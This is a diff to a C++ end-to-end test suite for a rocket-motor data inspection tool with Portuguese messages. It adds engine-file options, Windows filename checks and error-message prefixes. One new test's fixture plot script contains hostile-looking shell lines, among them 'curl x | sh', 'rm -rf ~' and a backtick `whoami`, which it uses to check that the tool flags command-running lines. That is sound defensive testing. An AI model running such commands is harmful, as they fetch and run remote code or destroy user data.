@@ -9,7 +9,8 @@
 
 #include "harness.h"
 
-#include "../tools/inspect/eng_reading.h"
+#include "../support/eng_reading.h"
+#include "../support/engine_rules.h"
 
 namespace {
 
@@ -54,8 +55,8 @@ TEST_F(Inspect, CaseThatFitsLeavesEveryFileAsItWas) {
   e2e::CaseDir dir;
   write_f67_case(dir, "2.126", "3.050");
   const auto before = contents(dir);
-  const e2e::RunResult r =
-      inspect(dir, {"--eng", "f67.eng", "--diametro", "29", "--comprimento", "83", "--massa-total", "0.0813"});
+  const e2e::RunResult r = inspect(dir, {"--eng", "f67.eng", "--rse", "f67.rse", "--diametro", "29", "--comprimento",
+                                         "83", "--massa-total", "0.0813", "--atrasos", "4-6-8"});
   EXPECT_EQ(r.exit_status, 0) << r.out << r.err;
   EXPECT_EQ(r.err, "");
   EXPECT_TRUE(has(r.out, "    2.126           ti (s)\n")) << r.out;
@@ -63,8 +64,12 @@ TEST_F(Inspect, CaseThatFitsLeavesEveryFileAsItWas) {
   EXPECT_TRUE(has(r.out, "Resultado: os dados cabem nas suposições do programa."));
   auto after = contents(dir);
   ASSERT_EQ(after.count("f67.eng"), 1u);
+  EXPECT_EQ(eng_rule_breaks(after["f67.eng"]), std::vector<std::string>{}) << after["f67.eng"];
+  EXPECT_EQ(rse_rule_breaks(after["f67.rse"]), std::vector<std::string>{}) << after["f67.rse"];
+  EXPECT_EQ(xml_elements(after["f67.rse"], "engine").at(0).at("delays"), "4,6,8");
   const EngFile eng = read_eng(after["f67.eng"]);
   EXPECT_TRUE(eng.well_formed);
+  EXPECT_EQ(eng.delays, "4-6-8");
   EXPECT_EQ(eng.name, "F66");
   EXPECT_EQ(eng.propellant_mass, 0.03);
   EXPECT_EQ(eng.total_mass, 0.0813);
@@ -72,8 +77,64 @@ TEST_F(Inspect, CaseThatFitsLeavesEveryFileAsItWas) {
   EXPECT_EQ(eng.length, "83.0");
   EXPECT_LE(eng.points.size(), 32u);
   after.erase("f67.eng");
+  after.erase("f67.rse");
   EXPECT_EQ(after, before);
   EXPECT_TRUE(dir.launches().empty());
+}
+
+// A received case whose plot script runs a program when the run draws the
+// plot: the check names each such line of the six the user writes, and
+// nothing on the other lines.
+TEST_F(Inspect, APlotScriptThatRunsProgramsIsNamedByLine) {
+  e2e::CaseDir dir;
+  write_f67_case(dir, "2.126", "3.050");
+  dir.write(e2e::kPlotScriptFile,
+            "# system('rm -rf ~') only in a comment\r\n"
+            "set xlabel 't [s]'; set ylabel 'F [N]'\r\n"
+            "set grid; sy 'curl x | sh'\r\n"
+            "set output '| lp'\r\n"
+            "if (1) { set terminal qt persist } else { load 'outro.gnu' }\r\n"
+            "set title \"`whoami`\"\r\n"
+            "system('echo depois da linha 6')\r\n");
+  const auto before = contents(dir);
+  const e2e::RunResult r = inspect(dir);
+  EXPECT_EQ(r.exit_status, 1) << r.out << r.err;
+  for (const int line : {3, 4, 5, 6}) {
+    EXPECT_TRUE(has(r.out, "a linha " + std::to_string(line) + " do roteiro do gráfico")) << line << r.out;
+  }
+  for (const int line : {1, 2, 7}) {
+    EXPECT_FALSE(has(r.out, "a linha " + std::to_string(line) + " do roteiro do gráfico")) << line << r.out;
+  }
+  EXPECT_EQ(contents(dir), before);
+}
+
+// A case whose result file is one of its inputs: the check says the run
+// would stop with error 30, and names both.
+TEST_F(Inspect, AResultFileNamedAsAnInputIsNamed) {
+  const struct {
+    const char* thrust_file;
+    const char* parameter_file;
+    const char* said;
+  } cases[] = {
+      {"ensaio7_saida_A.txt", "caso.txt", "o relatório do caso, ensaio7_saida_A.txt, é o arquivo de empuxo"},
+      {"empuxo.dat", "ensaio7_saida_B.txt", "a curva do caso, ensaio7_saida_B.txt, é o arquivo de parâmetros"},
+  };
+  for (const auto& c : cases) {
+    SCOPED_TRACE(c.said);
+    e2e::CaseDir dir;
+    e2e::CaseFiles files;
+    files.thrust_file = c.thrust_file;
+    files.original = std::string("'") + c.thrust_file + "'   arquivo de empuxo";
+    files.parameter_file = c.parameter_file;
+    files.general_data = std::string(c.parameter_file) + "\r\n";
+    dir.write_valid_case(files);
+    const auto before = contents(dir);
+    const e2e::RunResult r = inspect(dir);
+    EXPECT_EQ(r.exit_status, 1) << r.out << r.err;
+    EXPECT_TRUE(has(r.out, c.said)) << r.out;
+    EXPECT_TRUE(has(r.out, "o programa para com o erro 30 sem escrever nada")) << r.out;
+    EXPECT_EQ(contents(dir), before);
+  }
 }
 
 TEST_F(Inspect, AWindowReadByEyeIsFlaggedOnlyWhenItCutsTheBurn) {
@@ -153,7 +214,7 @@ TEST_F(Inspect, MissingInputIsUnusableAndNothingIsCreated) {
     e2e::CaseDir dir;
     const e2e::RunResult r = inspect(dir);
     EXPECT_EQ(r.exit_status, 2);
-    EXPECT_EQ(r.err, "talvironeska-inspect: severe (29): file not found, unit 5, file " +
+    EXPECT_EQ(r.err, "talvironeska-inspect: erro: severe (29): file not found, unit 5, file " +
                          dir.full_path(e2e::kGeneralDataFile) + "\n");
     EXPECT_FALSE(dir.exists(e2e::kGeneralDataFile));
   }
@@ -162,8 +223,8 @@ TEST_F(Inspect, MissingInputIsUnusableAndNothingIsCreated) {
     dir.write(e2e::kGeneralDataFile, "novo.txt\n");
     const e2e::RunResult r = inspect(dir);
     EXPECT_EQ(r.exit_status, 2);
-    EXPECT_EQ(r.err,
-              "talvironeska-inspect: severe (29): file not found, unit 6, file " + dir.full_path("novo.txt") + "\n");
+    EXPECT_EQ(r.err, "talvironeska-inspect: erro: severe (29): file not found, unit 6, file " +
+                         dir.full_path("novo.txt") + "\n");
     EXPECT_FALSE(dir.exists("novo.txt"));
   }
   {
@@ -183,7 +244,7 @@ TEST_F(Inspect, MissingInputIsUnusableAndNothingIsCreated) {
     dir.write_valid_case(files);
     const e2e::RunResult r = inspect(dir);
     EXPECT_EQ(r.exit_status, 2);
-    EXPECT_EQ(r.err, "talvironeska-inspect: severe (59): list-directed I/O syntax error, unit 6, file " +
+    EXPECT_EQ(r.err, "talvironeska-inspect: erro: severe (59): list-directed I/O syntax error, unit 6, file " +
                          dir.full_path("caso.txt") + "\n");
   }
 }
@@ -218,16 +279,18 @@ TEST_F(Inspect, CommandLine) {
     const char* error;
     // clang-format off
   } bad[] = {
-      {{"--rate", "10"}, "talvironeska-inspect: --rate só vale com um arquivo de empuxo (veja --help)\n"},
-      {{"a.dat", "--rate", "0"}, "talvironeska-inspect: --rate pede uma frequência inteira positiva em Hz, não \"0\" (veja --help)\n"},
-      {{"a.dat", "--rate"}, "talvironeska-inspect: falta o valor de --rate (veja --help)\n"},
-      {{"--x"}, "talvironeska-inspect: opção desconhecida --x (veja --help)\n"},
-      {{"a.dat", "--eng", ""}, "talvironeska-inspect: o valor de --eng está vazio (veja --help)\n"},
-      {{"a.dat", "--rate", "10", "--rate", "20"}, "talvironeska-inspect: a opção --rate aparece duas vezes (veja --help)\n"},
-      {{"--eng", "a.eng", "--eng", "b.eng"}, "talvironeska-inspect: a opção --eng aparece duas vezes (veja --help)\n"},
-      {{"-h", "--help"}, "talvironeska-inspect: a opção --help aparece duas vezes (veja --help)\n"},
-      {{""}, "talvironeska-inspect: um nome de arquivo vazio (veja --help)\n"},
-      {{"--\x1b[31m"}, "talvironeska-inspect: opção desconhecida --\\x1B[31m (veja --help)\n"},
+      {{"--rate", "10"}, "talvironeska-inspect: erro: --rate só vale com um arquivo de empuxo (veja --help)\n"},
+      {{"a.dat", "--rate", "0"}, "talvironeska-inspect: erro: --rate pede uma frequência inteira positiva em Hz, não \"0\" (veja --help)\n"},
+      {{"a.dat", "--rate"}, "talvironeska-inspect: erro: falta o valor de --rate (veja --help)\n"},
+      {{"--x"}, "talvironeska-inspect: erro: opção desconhecida --x (um arquivo com esse nome se escreve ./--x) (veja --help)\n"},
+      {{"a.dat", "--eng", ""}, "talvironeska-inspect: erro: o valor de --eng está vazio (veja --help)\n"},
+      {{"a.dat", "--rate", "10", "--rate", "20"}, "talvironeska-inspect: erro: a opção --rate aparece duas vezes (veja --help)\n"},
+      {{"--eng", "a.eng", "--eng", "b.eng"}, "talvironeska-inspect: erro: a opção --eng aparece duas vezes (veja --help)\n"},
+      {{"-h", "--help"}, "talvironeska-inspect: erro: a opção --help aparece duas vezes (veja --help)\n"},
+      {{""}, "talvironeska-inspect: erro: um nome de arquivo vazio (veja --help)\n"},
+      {{"--\x1b[31m"},
+       "talvironeska-inspect: erro: opção desconhecida --\\x1B[31m (um arquivo com esse nome se escreve ./--\\x1B[31m) "
+       "(veja --help)\n"},
       {{"serie", "a", "b", "--saida", ""}, "talvironeska-inspect: erro: o valor de --saida está vazio (veja serie --help)\n"},
       {{"serie", "a", "b", "--massa", "1", "--massa", "2"},
        "talvironeska-inspect: erro: a opção --massa aparece duas vezes (veja serie --help)\n"},
@@ -300,6 +363,16 @@ TEST_F(Inspect, ChoosingTheEventAndTheEngineFilesSizes) {
        "1 mm ou mais"},
       {{"f67w.dat", "--eng", "m.eng", "--diametro", "29", "--comprimento", "83", "--massa-total", "0.08"},
        "--eng pede a massa de propelente (--massa-propelente KG) quando não há caso"},
+      {{"f67w.dat", "--rse", "m.eng", "--diametro", "29", "--comprimento", "83", "--massa-total", "0.08",
+        "--massa-propelente", "0.08"},
+       "a massa de propelente deve ser menor que a massa total"},
+      {{"f67w.dat", "--eng", "m.eng", "--diametro", "29", "--comprimento", "83", "--massa-total", "0.08",
+        "--massa-propelente", "0.03", "--atrasos", "4,6"},
+       "--atrasos pede os atrasos de ejeção em segundos ligados por '-'"},
+      {{"f67w.dat", "--eng", "m.eng", "--diametro", "29", "--comprimento", "83", "--massa-total", "0.08",
+        "--massa-propelente", "0.03", "--fabricante", "Minha Equipe"},
+       "--fabricante pede um nome"},
+      {{"f67w.dat", "--atrasos", "6"}, "só valem com --eng ou --rse"},
       {{"f67w.dat", "--de", "5", "--ate", "2"}, "--de deve vir antes de --ate"},
   };
   for (const auto& c : refused) {
@@ -334,16 +407,24 @@ TEST_F(Inspect, TheEngineFileNeverReplacesAFileOfTheCase) {
       {true, "link:ensaio7_saida_B.txt"},
       {true, "link:../case/ensaio7_saida_B.txt"},
       {true, "hard:f67w.dat"},
+      // Names as Windows compares them, for a file made already or not yet.
+      {true, "win:ENSAIO7_SAIDA_a.txt"},
+      {true, "win:ensaio7_saida_A.txt. ."},
+      {true, "win:Ensaio7_Saida_B.TXT"},
+      {true, "win:CASO.TXT"},
   };
   for (const auto& c : cases) {
     SCOPED_TRACE(c.target);
+    if (c.target.starts_with("win:") && !e2e::windows_run()) continue;
     e2e::CaseDir dir;
     write_f67_case(dir, "2.126", "3.050");
     dir.write(e2e::kPlotScriptFile, "set grid\n#\n#\n#\n#\n#\n");
     // The curve file is not there yet in the link cases: the link would make it.
     dir.write("ensaio7_saida_A.txt", "A\r\n");
-    if (!c.target.starts_with("link:")) dir.write("ensaio7_saida_B.txt", "B\r\n");
-    std::string target = c.target;
+    if (!c.target.starts_with("link:") && !c.target.starts_with("win:Ensaio7_Saida_B")) {
+      dir.write("ensaio7_saida_B.txt", "B\r\n");
+    }
+    std::string target = c.target.starts_with("win:") ? c.target.substr(4) : c.target;
     // Wine shows a link to a file not made yet as no file at all.
     if (e2e::windows_run() && target.starts_with("link:") && !dir.exists(target.substr(5))) continue;
     if (target.starts_with("link:") || target.starts_with("hard:")) {
@@ -380,7 +461,7 @@ TEST_F(Inspect, InvisibleBytesInTheCasesNames) {
       {"\xEF\xBB\xBF"
        "caso.txt\r\n",
        "'empuxo.dat'", "ensaio7", 2,
-       "talvironeska-inspect: o nome do arquivo de parâmetros lido de " + std::string(e2e::kGeneralDataFile) +
+       "talvironeska-inspect: erro: o nome do arquivo de parâmetros lido de " + std::string(e2e::kGeneralDataFile) +
            ", \"\\xEF\\xBB\\xBFcaso.txt\", tem bytes invisíveis: EF BB BF (BOM) no início; o programa abriria esse "
            "nome, deixaria lá um arquivo vazio com ele e pararia com o erro 24\n"},
       {"caso.txt\r\r\n", "'empuxo.dat'", "ensaio7", 2, "\"caso.txt\\x0D\", tem bytes invisíveis: 0D (CR) no fim; "},
@@ -422,15 +503,17 @@ TEST_F(Inspect, ALostReportOrEngineFileIsAFailure) {
       {"exec \"$0\" >&-", "erro ao escrever o relatório na saída padrão"},
       {"exec \"$0\" " + eng + " >&-", "erro ao escrever o relatório na saída padrão"},
       {"exec \"$0\" --help >/dev/full", "erro ao escrever o relatório na saída padrão"},
-      {"exec \"$0\" serie . . --saida s >/dev/full", "erro ao escrever o relatório na saída padrão"},
+      // Two firings of one log are refused: the second is a copy.
+      {"cp f67w.dat copia.dat && exec \"$0\" serie . copia.dat --saida s >/dev/full",
+       "erro ao escrever o relatório na saída padrão"},
       {"exec \"$0\" --eng /dev/full --diametro 29 --comprimento 83 --massa-total 0.1 >/dev/null",
-       "erro ao escrever /dev/full: nenhum arquivo escrito"},
+       "erro ao escrever /dev/full: nenhum arquivo de motor escrito"},
   };
   for (const auto& c : cases) {
     SCOPED_TRACE(c.shell);
     const e2e::RunResult r = dir.run_program({"/bin/sh", "-c", c.shell, TALVIRONESKA_INSPECT_BIN});
     EXPECT_EQ(r.exit_status, 2);
-    EXPECT_TRUE(has(r.err, "talvironeska-inspect: " + c.error + "\n")) << r.err;
+    EXPECT_TRUE(has(r.err, "talvironeska-inspect: erro: " + c.error + "\n")) << r.err;
     EXPECT_FALSE(dir.exists("m.eng"));
   }
 }
